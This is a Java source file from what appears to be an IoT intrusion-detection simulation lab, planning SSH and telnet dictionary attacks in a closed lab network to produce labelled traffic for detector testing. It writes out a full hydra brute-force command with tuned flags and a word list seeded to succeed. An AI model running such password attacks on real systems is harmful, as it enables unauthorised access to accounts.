package io.iotwatch.sim.lab;

import io.iotwatch.sim.truth.AttackKind;
import java.time.Duration;
import java.util.List;

/**
 * hydra against the victim's SSH and telnet logins with the lab's word list, whose last word is the weak
 * account's password: the attack ends with a login that works. Four tasks; {@code -w 1} because hydra would
 * otherwise wait 32 s each time the server closes a connection after its third failed try.
 */
final class DictionaryAttacks {

    private DictionaryAttacks() {}

    static AttackPlan plan(AttackKind kind, LabFiles files) {
        String attacker = Topology.ATTACKER.address();
        String victim = Topology.VICTIM.address();
        String service = switch (kind) {
            case SSH_DICTIONARY -> "ssh";
            case TELNET_DICTIONARY -> "telnet";
            default -> throw new IllegalArgumentException(kind.id + " is no dictionary attack");
        };
        int port = kind == AttackKind.SSH_DICTIONARY ? 22 : 23;
        NsCommand hydra = NsCommand.bounded(Topology.ATTACKER, Duration.ofSeconds(150), "hydra", "-l", LabFiles.LAB_USER,
                "-P", files.passwords().toString(), "-t", "4", "-w", "1", "-I", service + "://" + victim);
        // sshd allows 3 tries per connection and the telnet login 1: the word list makes at least this many.
        int sessions = kind == AttackKind.SSH_DICTIONARY ? 10 : 30;
        return AttackPlan.simple(kind, List.of(attacker), victim, List.of("hydra"), List.of(hydra), List.of(
                Criterion.count(service + " connections from " + attacker + " to " + victim + ":" + port, sessions,
                        p -> p.from(attacker) && p.to(victim) && p.destinationPort() == port && p.syn())));
    }
}
